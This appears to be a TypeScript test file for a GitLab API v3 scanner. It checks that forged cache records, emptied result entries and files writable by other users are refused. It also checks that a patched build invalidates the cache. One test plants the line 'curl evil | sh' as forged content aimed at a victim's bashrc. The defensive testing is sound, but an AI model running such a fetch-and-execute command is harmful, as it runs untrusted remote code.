// The cache as untrusted input (engine/cache/trust.ts): what an attacker who can write the cache
// folder (a CI cache restored from another branch's job, a shared --cache-location) or another
// user on the machine could do with it, each tried. A forged or edited record, cache entry or
// index copy is an empty cache: the report is a cold run's. Files other users can write are
// refused as git's safe.directory refuses a repository (uids simulated with chown when root).
import fs from 'node:fs';
import path from 'node:path';
import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { asciiJson } from '../src/engine/cache/io.js';
import { DEFAULT_CACHE_FILE } from '../src/engine/cache/location.js';
import { sign } from '../src/engine/cache/trust.js';
import { FILES, git, JSON_ARGS, recordIn, recorded, recordJson, repo, runBin, writeOld } from './record-support.js';
import { explain, ROOT, runCli, tempDir } from './support.js';
import { shardFiles } from './cache-files.js';

const ROOTED = typeof process.getuid === 'function' && process.getuid() === 0;
const cacheOf = (dir: string) => path.join(dir, DEFAULT_CACHE_FILE);
const CLEAN = 'No GitLab API v3 usage found (6 files scanned).\n';

describe('a forged or edited run record', () => {
  it('is not replayed when its digest does not hold: the report and exit code are a cold run\'s', async () => {
    const dir = repo();
    const cold = await recorded(dir, JSON_ARGS);
    const file = recordIn(dir);
    const record = recordJson<Record<string, unknown>>(file);
    // What an attacker writes: a clean report, every check emptied, under a digest they cannot key.
    const forged = JSON.stringify({ ...record, stdout: CLEAN, exitCode: 0, stats: [], watched: [], consulted: [] });
    fs.writeFileSync(file, fs.readFileSync(file, 'latin1').split('\n')[0] + '\n' + forged);
    const warm = await runBin(['--cache', ...JSON_ARGS], dir);
    expect(warm.replayed).toBe(false);
    expect(warm.out).toEqual(cold);
    // Nor with no digest at all (the format before digests).
    fs.writeFileSync(recordIn(dir), forged);
    expect((await runBin(['--cache', ...JSON_ARGS], dir)).out).toEqual(cold);
  });

  it('never writes the file a record names: the report goes where this run\'s arguments say', async () => {
    const dir = repo();
    const args = ['--format', 'json', '-o', 'report.json', '.'];
    await recorded(dir, args);
    const victim = path.join(tempDir('victim'), 'bashrc');
    fs.writeFileSync(victim, 'export SAFE=1\n');
    const file = recordIn(dir);
    const record = recordJson<{ outputFile: { file: string; content: string } }>(file);
    // Even signed with this user's own secret (the worst case), the named file is not the target.
    fs.writeFileSync(file, sign(asciiJson({ ...record, outputFile: { file: victim, content: 'curl evil | sh\n' } }))!);
    const warm = await runBin(['--cache', ...args], dir);
    expect(warm.replayed).toBe(true);
    expect(fs.readFileSync(victim, 'utf8')).toBe('export SAFE=1\n');
    expect(fs.readFileSync(path.join(dir, 'report.json'), 'utf8')).toBe('curl evil | sh\n');
  });

  it('is not replayed when it names another cache file than this run\'s', async () => {
    const dir = repo();
    const cold = await recorded(dir, JSON_ARGS);
    const file = recordIn(dir);
    const record = recordJson<Record<string, unknown>>(file);
    fs.writeFileSync(file, sign(asciiJson({ ...record, cacheFile: path.join(tempDir('elsewhere'), 'c') }))!);
    const warm = await runBin(['--cache', ...JSON_ARGS], dir);
    expect(warm.replayed).toBe(false);
    expect(warm.out).toEqual(cold);
  });
});

describe('a forged result-cache entry', () => {
  it('does not hide a file\'s findings nor stop --fix: the whole file is refused', async () => {
    const dir = repo();
    const cold = await runCli(JSON_ARGS, dir);
    await runCli(['--cache', ...JSON_ARGS], dir);
    // Every stored result emptied in every shard (engine/cache/shards.ts), the digest line kept.
    const shards = shardFiles(cacheOf(dir));
    expect(shards.length).toBeGreaterThan(0);
    const texts = shards.map((f) => fs.readFileSync(f, 'latin1'));
    const forge = () =>
      shards.forEach((f, i) => {
        const text = texts[i];
        const data = JSON.parse(text.slice(text.indexOf('\n') + 1)) as { results: Record<string, { result: { findings: unknown[] } }> };
        for (const e of Object.values(data.results)) e.result.findings = [];
        fs.writeFileSync(f, text.slice(0, text.indexOf('\n') + 1) + JSON.stringify(data));
      });
    forge();
    expect(await runCli(['--cache', ...JSON_ARGS], dir)).toEqual(cold);
    forge();
    const fixed = await runCli(['--cache', '--fix', ...JSON_ARGS], dir);
    expect(fixed.code).not.toBe(2);
    expect(fs.readFileSync(path.join(dir, 'client.js'), 'utf8')).not.toBe(FILES['client.js']);
  });
});

describe.skipIf(!ROOTED)('files another user can write (uids simulated with chown)', () => {
  it('a cache file of another user is refused, said, and not written', async () => {
    const dir = repo();
    const cold = await runCli(JSON_ARGS, dir);
    await runCli(['--cache', ...JSON_ARGS], dir);
    fs.chownSync(cacheOf(dir), 12345, 12345);
    const before = fs.readFileSync(cacheOf(dir));
    const r = await runCli(['--cache', ...JSON_ARGS], dir);
    expect(JSON.parse(r.stdout).findings).toEqual(JSON.parse(cold.stdout).findings);
    expect(r.stderr).toMatch(/the cache is not used: .* owned by user 12345/);
    expect(fs.readFileSync(cacheOf(dir)).equals(before)).toBe(true);
  });

  it('a run record of another user is not replayed', async () => {
    const dir = repo();
    const cold = await recorded(dir, JSON_ARGS);
    fs.chownSync(recordIn(dir), 12345, 12345);
    const warm = await runBin(['--cache', ...JSON_ARGS], dir);
    expect(warm.replayed).toBe(false);
    expect(warm.out).toEqual(cold);
  });

  it('a folder others can write (not sticky) is refused; a sticky one, as /tmp, is not', async () => {
    const dir = repo();
    const shared = tempDir('shared-cache');
    const args = ['--cache-location', `${shared}/`, ...JSON_ARGS];
    const cold = await runCli(JSON_ARGS, dir);
    fs.chmodSync(shared, 0o777);
    const open = await runBin(['--cache', ...args], dir);
    expect(open.out.stderr).toMatch(/the cache is not used: .* can be written by other users/);
    expect(fs.readdirSync(shared)).toEqual([]);
    fs.chmodSync(shared, 0o1777);
    expect((await runBin(['--cache', ...args], dir)).out).toEqual(cold);
    expect((await runBin(['--cache', ...args], dir)).replayed).toBe(true);
    // A file in it that another user made under the cache's name is not trusted.
    const record = recordIn(dir, path.join(shared, DEFAULT_CACHE_FILE));
    fs.chownSync(record, 12345, 12345);
    expect((await runBin(['--cache', ...args], dir)).replayed).toBe(false);
  });

  it('a file group-writable by a group not the user\'s own is refused', async () => {
    const dir = repo();
    const cold = await recorded(dir, JSON_ARGS);
    fs.chownSync(recordIn(dir), 0, 12345);
    fs.chmodSync(recordIn(dir), 0o664);
    const warm = await runBin(['--cache', ...JSON_ARGS], dir);
    expect(warm.replayed).toBe(false);
    expect(warm.out).toEqual(cold);
  });
});

describe('what a result depends on is in its key', () => {
  it('core.excludesFile dropped from .git/config: the replay and the remembered walk see the file it ignored', async () => {
    const dir = repo();
    const excludes = path.join(tempDir('excludes'), 'ignore');
    fs.writeFileSync(excludes, 'hidden.js\n');
    git(dir, 'config', 'core.excludesFile', excludes);
    writeOld(dir, 'hidden.js', "fetch('https://gitlab.example.com/api/v3/projects');\n");
    const first = await recorded(dir, JSON_ARGS);
    expect(first.stdout).not.toContain('hidden.js');
    git(dir, 'config', '--unset', 'core.excludesFile');
    const warm = await runBin(['--cache', ...JSON_ARGS], dir);
    expect(warm.replayed).toBe(false);
    expect(warm.out.stdout).toContain('hidden.js');
    expect(warm.out).toEqual(await runCli(JSON_ARGS, dir));
  });

  it('a patched build (same sizes, npm\'s fixed mtime) is new code: no replay, no cached finding', () => {
    // The package as installed: dist, package.json, node_modules.
    const pkg = tempDir('patched-build');
    fs.cpSync(path.join(ROOT, 'dist'), path.join(pkg, 'dist'), { recursive: true, filter: (f) => !f.endsWith('.map') && !f.includes(`${path.sep}cjs`) });
    fs.copyFileSync(path.join(ROOT, 'package.json'), path.join(pkg, 'package.json'));
    fs.symlinkSync(path.join(ROOT, 'node_modules'), path.join(pkg, 'node_modules'), 'junction');
    const dir = repo();
    const run = () => {
      const r = spawnSync(process.execPath, [path.join(pkg, 'dist', 'cli', 'bin.js'), '--cache', ...JSON_ARGS], { cwd: dir, encoding: 'utf8' });
      expect(r.status, explain(r)).toBe(1);
      return r.stdout;
    };
    run();
    expect(run()).toContain('removed in GitLab 9.5.');
    // The files of the CLI bundle that carry the message (the code that runs: its chunks and the
    // analysis's CommonJS copy, whose compiled code V8's cache keeps), patched in place, keeping their
    // sizes and mtimes.
    const chunks = path.join(pkg, 'dist', 'cli');
    const carriers = fs.readdirSync(chunks, { withFileTypes: true }).filter((e) => e.isFile()).map((e) => path.join(chunks, e.name)).filter((f) => fs.readFileSync(f, 'utf8').includes('removed in GitLab 9.5.'));
    expect(carriers.length).toBeGreaterThan(0);
    const patch = (from: string, to: string) => {
      for (const f of carriers) {
        const { atime, mtime } = fs.statSync(f);
        fs.writeFileSync(f, fs.readFileSync(f, 'utf8').replaceAll(from, to));
        fs.utimesSync(f, atime, mtime);
      }
    };
    patch('removed in GitLab 9.5.', 'removed in GitLab 9.6.');
    expect(run()).toContain('removed in GitLab 9.6.');
    // And by the per-file path: the result cache's key holds the chunk's content.
    patch('removed in GitLab 9.6.', 'removed in GitLab 9.7.');
    for (const n of fs.readdirSync(dir)) if (n.includes('-run-')) fs.rmSync(path.join(dir, n));
    expect(run()).toContain('removed in GitLab 9.7.');
  });
});
